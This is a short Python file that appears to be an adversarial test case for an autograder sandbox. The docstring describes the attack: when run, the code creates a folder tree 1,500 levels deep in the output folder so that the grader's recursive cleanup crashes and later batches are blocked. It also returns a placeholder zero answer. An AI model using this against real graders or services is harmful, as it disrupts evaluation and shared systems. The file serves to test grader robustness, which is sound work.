"""In a class batch: leaves a tree 1,500 folders deep in the sandbox's output folder. Removing
it recursively raised RecursionError: the worker died, its temporary folder stayed, and every
later batch refused to start, unless the grader removes such folders without recursion
(a folder tree too deep to remove)."""
# effdl-attack: threat=class build=batch tag=answer expect_lost=a2.closed_form feedback_contains="entries differ"

import os


def deep_tree(top, depth):
    try:
        current = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        return
    for _ in range(depth):
        try:
            os.mkdir("d", dir_fd=current)
            deeper = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=current)
        except OSError:
            break
        os.close(current)
        current = deeper
    os.close(current)


deep_tree("/out", 1500)


def closed_form(X, y):
    return [0.0, 0.0, 0.0]
